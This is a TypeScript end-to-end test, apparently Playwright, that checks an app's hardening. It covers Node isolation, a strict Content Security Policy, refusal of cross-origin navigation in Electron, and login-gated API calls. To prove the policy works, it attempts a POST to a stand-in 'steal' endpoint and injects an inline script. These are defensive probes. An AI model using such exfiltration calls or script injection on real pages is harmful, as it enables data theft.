import { expect, test } from './fixtures'

/**
 * Hardening proof (issue 7, docs/security.md), through the real UI: the page cannot reach
 * Node, a strict CSP is present and enforced (no connection to another origin, no inline
 * script), the API answers nothing without a login session. In the Electron project, also:
 * navigation to another origin and `window.open` are refused by the main process.
 */
test('the page cannot reach Node, the CSP holds, and nothing answers without a login', async ({
  desk,
}, testInfo) => {
  const page = desk.page
  await expect(page.locator('html')).toHaveAttribute('lang', 'ar')

  const reach = await page.evaluate(() => ({
    require: typeof (window as unknown as { require?: unknown }).require,
    process: typeof (window as unknown as { process?: unknown }).process,
    module: typeof (window as unknown as { module?: unknown }).module,
  }))
  expect(reach).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined' })

  const csp = await page
    .locator('meta[http-equiv="Content-Security-Policy"]')
    .getAttribute('content')
  expect(csp).toContain("default-src 'self'")
  expect(csp).toContain("connect-src 'self'")

  // Another origin cannot be reached, and an injected inline script does not run.
  const blocked = await page.evaluate(async () => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (e) =>
      violations.push(e.violatedDirective),
    )
    let fetched = true
    try {
      await fetch('http://192.0.2.1:9/steal', { method: 'POST', body: 'x' })
    } catch {
      fetched = false
    }
    const script = document.createElement('script')
    script.textContent = 'window.__injected = true'
    document.body.append(script)
    await new Promise((r) => setTimeout(r, 100))
    return {
      fetched,
      injected: (window as unknown as { __injected?: boolean }).__injected === true,
      violations,
    }
  })
  expect(blocked.fetched).toBe(false)
  expect(blocked.injected).toBe(false)
  expect(blocked.violations).toEqual(expect.arrayContaining(['connect-src']))

  if (testInfo.project.name === 'electron') {
    const start = page.url()
    await page.evaluate(() => window.open('https://example.com/', '_blank'))
    await page.evaluate(() => (window.location.href = 'https://example.com/'))
    await page.waitForTimeout(500)
    expect(page.url()).toBe(start)
    expect(page.context().pages()).toHaveLength(1)
  } else {
    // The browser host: every API call but the open ones needs a login session.
    const answer = await page.evaluate(async () => {
      const token = window.sessionStorage.getItem('sijill.hostToken') ?? ''
      const r = await fetch('/api/artisans.count', {
        method: 'POST',
        headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' },
        body: JSON.stringify({ filter: {} }),
      })
      return { status: r.status, body: (await r.json()) as { error?: { key: string } } }
    })
    expect(answer.status).toBe(401)
    expect(answer.body.error?.key).toBe('errors.login_required')
  }
})
